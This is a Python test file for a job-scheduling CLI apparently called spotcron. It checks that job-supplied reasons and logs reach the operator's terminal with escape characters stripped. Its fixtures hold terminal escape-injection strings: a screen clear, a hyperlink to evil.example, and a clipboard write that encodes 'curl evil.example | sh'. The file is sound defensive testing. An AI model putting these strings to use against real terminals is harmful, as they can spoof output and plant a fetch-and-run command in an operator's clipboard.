"""A reason the job wrote reaches the operator's terminal raw through `spotcron results`.

A container with metadata access holds its VM's identity token and may post its own callback
(docs/security.md, "What a job's container posts to job_done"). The body's `problem` (up to 500
characters, any characters) becomes the run's reason verbatim: `unavailable` ends the run
`skipped` with "not run on this host: PROBLEM", an exited run with no code ends `failed` with
"the job did not start: PROBLEM". `spotcron results RUN` of a skipped run prints that reason
with rich (markup off, but rich passes ESC through), so ESC/OSC sequences reach the terminal,
while docs/security.md promises every reason is shown escaped.
"""

from __future__ import annotations

from datetime import timedelta

from spotcron.core.runs import RunState
from spotcron.testing.harness import make_spec
from tests.cli.conftest import NOW, bucket, context, invoke, make_record, sleeps  # noqa: F401 - fixtures

HOSTILE = "gpu\x1b[2J\x1b[1;1Hall good\x1b]8;;https://evil.example\x07click\x1b]8;;\x07"


def test_reach_a_containers_own_callback_stores_its_problem_raw_as_the_reason(h):
    """The precondition (passes): the job puts ESC sequences into its run's reason."""
    spec = make_spec(name="bot", schedule="0 12 * * *")
    h.start(spec)
    body = {"job": "bot", "run_id": "20261122-1200", "attempt": 1, "status": "unavailable", "problem": HOSTILE}
    reply = h.callback("bot", "20261122-1200", body=body)  # the VM's own token, as a container fetches it
    assert reply.status_code == 200
    record = h.record("bot", "20261122-1200")
    assert record.state == RunState.SKIPPED
    assert HOSTILE in (record.reason or "")


def test_results_of_a_skipped_run_prints_its_reason_as_text(invoke, bucket):  # noqa: F811 - the fixtures imported above
    bucket.add(make_record("bench", "r1", "skipped", created=NOW - timedelta(hours=1),
                           reason=f"not run on this host: {HOSTILE}"))
    result = invoke("results", "bench/r1")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout, repr(result.stdout)


def test_logs_prints_a_jobs_output_without_terminal_escapes(invoke, bucket):  # noqa: F811 - the fixtures imported above
    """`spotcron logs` writes logs.txt to the terminal as the job wrote it: an OSC 8 link, a screen
    clear, a cursor move or an OSC 52 clipboard write reach the operator's terminal, where the
    notification's log tail ('?'), the build log (escaped) and every table escape the same text."""
    bucket.add(make_record("bench", "r1", "failed", created=NOW - timedelta(hours=1), exit_code=1))
    bucket.logs("bench", "r1", 1, f"step 1\n{HOSTILE}\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\n")
    result = invoke("logs", "bench/r1")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout, repr(result.stdout)


def test_spotcron_ups_run_end_line_shows_the_reason_as_text():
    """`spotcron up` prints each run's end with present/live.ended_detail, whose reason comes from
    present/notes.ended_words (whitespace squeezed, controls kept), as rich Text: ESC and BEL go out."""
    from spotcron.present.live import ended_detail, log_line

    record = make_record("bench", "r1", "skipped", created=NOW - timedelta(hours=1),
                         reason=f"not run on this host: {HOSTILE}")
    line = log_line(NOW, "bench/r1", "skipped", ended_detail(record, {})).plain
    assert "\x1b" not in line and "\x07" not in line, repr(line)
